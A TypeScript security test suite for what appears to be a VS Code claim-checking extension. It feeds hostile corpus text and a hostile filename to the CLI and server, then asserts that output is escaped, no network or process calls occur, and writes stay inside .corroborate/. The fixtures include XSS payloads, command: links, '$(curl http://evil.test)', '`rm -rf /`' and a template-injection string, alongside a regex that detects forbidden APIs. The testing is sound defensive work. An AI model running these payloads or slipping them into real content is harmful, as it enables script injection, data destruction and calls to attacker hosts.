// Security: corpus and draft content never reach the network or a process;
// nothing is written outside the workspace's .corroborate/ folder; corpus text
// shown in hovers and reports is escaped (no HTML, no links but to source
// files); a .corroborate folder that links out of the workspace is not written
// through. The CLI and the server run with a preloaded guard (sandboxGuard.ts)
// that blocks and records network calls and child processes and records writes.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, test } from 'node:test';
import { CodeActionRequest, ExecuteCommandRequest, HoverRequest, type CodeAction, type Diagnostic, type Hover, type MarkupContent } from 'vscode-languageserver-protocol/node';
import { Harness, pullCapabilities, repoRoot } from '../protocol/harness.js';

const guard = pathToFileURL(join(repoRoot, 'out', 'test', 'robustness', 'sandboxGuard.js')).href;

const HOSTILE_NAME = 'x)[open me](command:workbench.action.terminal.new) <img src=y onerror=alert(1)>.md';
const HOSTILE_SOURCE = `# <script>alert(1)</script>

The armoured train has a top speed of 60 km/h <img src=x onerror=alert(1)> [click](command:workbench.action.terminal.new) <a href="javascript:alert(1)">x</a> $(curl http://evil.test) \`rm -rf /\` {{constructor.constructor('return process')()}} http://evil.test/track.png ![t](http://evil.test/p.png).
`;
const DRAFT = 'The armoured train has a top speed of 88 km/h.\n';

function makeWorkspace(): string {
  const workspace = mkdtempSync(join(tmpdir(), 'corroborate-security-'));
  mkdirSync(join(workspace, 'corpus'));
  writeFileSync(join(workspace, 'corpus', HOSTILE_NAME), HOSTILE_SOURCE);
  writeFileSync(join(workspace, 'draft.md'), DRAFT);
  return workspace;
}

function readGuardLog(path: string): string[] {
  return existsSync(path) ? readFileSync(path, 'utf8').split('\n').filter(Boolean) : [];
}

function guardedEnv(log: string): NodeJS.ProcessEnv {
  return { ...process.env, NODE_OPTIONS: `${process.env.NODE_OPTIONS ?? ''} --import ${guard}`.trim(), CORROBORATE_GUARD_LOG: log };
}

/** Markdown shown to people: no raw HTML, and every link goes to a file. */
function assertSafeMarkdown(markdown: string, what: string): void {
  assert.ok(!/(?<!\\)<\/?(?:script|img|a|iframe|style)\b/i.test(markdown), `${what}: raw HTML in ${markdown}`);
  for (const match of markdown.matchAll(/(?<!\\)\]\(([^)\s]*)\)/g)) {
    assert.ok(match[1]!.startsWith('file://'), `${what}: a link to ${match[1]}`);
  }
  assert.ok(!/(?<!\\)\]\((?:command|javascript|https?):/i.test(markdown), `${what}: a live link from corpus text`);
}

test('CLI: no network, no process, no file written, for hostile corpus content', () => {
  const workspace = makeWorkspace();
  const log = join(tmpdir(), `corroborate-guard-${process.pid}-cli.log`);
  try {
    const run = spawnSync(process.execPath, [join(repoRoot, 'dist', 'cli.js'), 'check', '--format', 'json', 'draft.md'], { cwd: workspace, encoding: 'utf8', env: guardedEnv(log) });
    assert.equal(run.status, 1, run.stderr);
    const json = JSON.parse(run.stdout) as { drafts: { claims: { verdict: string; evidence: { source: string }[] }[] }[] };
    assert.equal(json.drafts[0]!.claims[0]!.verdict, 'contradicted');
    assert.equal(json.drafts[0]!.claims[0]!.evidence[0]!.source, `corpus/${HOSTILE_NAME}`);
    assert.deepEqual(readGuardLog(log), []);
    assert.deepEqual(readdirSync(workspace).sort(), ['corpus', 'draft.md']);
  } finally {
    rmSync(workspace, { recursive: true, force: true });
    rmSync(log, { force: true });
  }
});

describe('server: hostile corpus content, with every network call, process and write watched', () => {
  let workspace: string;
  let harness: Harness;
  const log = join(tmpdir(), `corroborate-guard-${process.pid}-server.log`);

  before(async () => {
    workspace = makeWorkspace();
    const saved = { NODE_OPTIONS: process.env.NODE_OPTIONS, CORROBORATE_GUARD_LOG: process.env.CORROBORATE_GUARD_LOG };
    Object.assign(process.env, guardedEnv(log)); // the harness's child inherits the environment
    try {
      harness = new Harness(workspace, { capabilities: pullCapabilities, settings: null, timeoutMs: 30_000 }).setCapabilities(pullCapabilities);
    } finally {
      for (const [key, value] of Object.entries(saved)) {
        if (value === undefined) delete process.env[key];
        else process.env[key] = value;
      }
    }
    await harness.initialize();
  });
  after(async () => {
    await harness.shutdown();
    rmSync(log, { force: true });
  });

  test('hover and report escape corpus text; the decision is the only write, inside .corroborate/; no network, no process', async () => {
    const document = await harness.open('draft.md', DRAFT);
    const report = await harness.pull(document.uri);
    const speed = (report.kind === 'full' ? report.items : []).find((item: Diagnostic) => item.code === 'contradicted');
    assert.ok(speed, JSON.stringify(report));

    const hover = await harness.request<Hover | null>(HoverRequest.method, { textDocument: { uri: document.uri }, position: { line: 0, character: 10 } });
    const hoverText = (hover?.contents as MarkupContent | undefined)?.value ?? '';
    assert.match(hoverText, /60 km\/h/);
    assertSafeMarkdown(hoverText, 'hover');
    const claimReport = await harness.request<{ markdown: string } | null>('corroborate/report', { uri: document.uri });
    assertSafeMarkdown(claimReport!.markdown, 'report');

    const actions = await harness.request<CodeAction[]>(CodeActionRequest.method, { textDocument: { uri: document.uri }, range: speed.range, context: { diagnostics: [speed] } });
    const ignore = actions.find((action) => action.command?.command === '_corroborate.ignoreClaim')!;
    await harness.request(ExecuteCommandRequest.method, { command: ignore.command!.command, arguments: ignore.command!.arguments });
    await harness.waitFor('the decision written', () => existsSync(join(workspace, '.corroborate', 'decisions.json')));

    const attempts = readGuardLog(log);
    assert.deepEqual(attempts.filter((line) => !line.startsWith('write ')), [], 'network or process attempts');
    const writes = attempts.filter((line) => line.startsWith('write '));
    assert.ok(writes.length > 0, 'the guard saw no write at all (is it loaded?)');
    for (const line of writes) {
      const path = line.split(' ').slice(2).join(' ');
      assert.ok(path.startsWith(join(workspace, '.corroborate')), `a write outside .corroborate/: ${line}`);
    }
  });
});

test('a .corroborate folder that links out of the workspace is not written through', async () => {
  const workspace = makeWorkspace();
  const outside = mkdtempSync(join(tmpdir(), 'corroborate-outside-'));
  symlinkSync(outside, join(workspace, '.corroborate'));
  const harness = new Harness(workspace, { capabilities: pullCapabilities, settings: null, timeoutMs: 30_000 }).setCapabilities(pullCapabilities);
  try {
    await harness.initialize();
    const document = await harness.open('draft.md', DRAFT);
    const report = await harness.pull(document.uri);
    const speed = (report.kind === 'full' ? report.items : []).find((item: Diagnostic) => item.code === 'contradicted')!;
    const actions = await harness.request<CodeAction[]>(CodeActionRequest.method, { textDocument: { uri: document.uri }, range: speed.range, context: { diagnostics: [speed] } });
    const ignore = actions.find((action) => action.command?.command === '_corroborate.ignoreClaim')!;
    await harness.request(ExecuteCommandRequest.method, { command: ignore.command!.command, arguments: ignore.command!.arguments });
    await harness.waitFor('the refusal logged', () => harness.logs.some((line) => line.includes('leads outside the workspace folder')));
    assert.deepEqual(readdirSync(outside), []);
  } finally {
    await harness.shutdown();
    rmSync(outside, { recursive: true, force: true });
  }
});

/** The one webview (the claim report) lives in client/src/report/panel.ts; see the audit of it below. */
const WEBVIEW_HOST = 'client/src/report/panel.ts';

test('static audit: no network, process, eval or webview APIs in the server, the CLI or the client (but the claim report)', () => {
  const forbidden = /\bfrom 'node:(?:http|https|net|tls|dgram|dns|child_process|vm)'|\brequire\(|\bfetch\(|\beval\(|new Function\(|createWebviewPanel|\.webview\b/;
  const webviewApi = /createWebviewPanel|\.webview\b/;
  const offenders: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) walk(path);
      else if (entry.name.endsWith('.ts')) {
        const relative = path.slice(repoRoot.length + 1).split('\\').join('/');
        readFileSync(path, 'utf8').split('\n').forEach((line, index) => {
          if (!forbidden.test(line)) return;
          if (relative === WEBVIEW_HOST && !forbidden.test(line.replace(new RegExp(webviewApi.source, 'g'), ''))) return;
          offenders.push(`${relative}:${index + 1}: ${line.trim()}`);
        });
      }
    }
  };
  walk(join(repoRoot, 'server', 'src'));
  walk(join(repoRoot, 'client', 'src'));
  assert.deepEqual(offenders, []);
});

test('static audit: the claim report webview loads only media/, runs only its nonce script, never writes HTML from data', () => {
  const host = readFileSync(join(repoRoot, WEBVIEW_HOST), 'utf8');
  assert.match(host, /localResourceRoots: \[media\]/, 'resources from the media folder only');
  assert.match(host, /const media = vscode\.Uri\.joinPath\(extensionUri, 'media'\)/);
  assert.doesNotMatch(host, /enableCommandUris|retainContextWhenHidden/, 'no command links, no hidden live page');
  assert.match(host, /parseWebviewMessage\(/, 'messages from the page are parsed before use');
  const script = readdirSync(join(repoRoot, 'client', 'src', 'report', 'webview'))
    .filter((name) => name.endsWith('.ts'))
    .map((name) => readFileSync(join(repoRoot, 'client', 'src', 'report', 'webview', name), 'utf8'))
    .join('\n')
    // Code only: comments may name what the code avoids.
    .replace(/\/\*[\s\S]*?\*\//g, '')
    .replace(/^\s*\/\/.*$/gm, '');
  assert.doesNotMatch(script, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function|setAttribute\('on/, 'the page writes text, never HTML');
  assert.match(script, /textContent/);
});
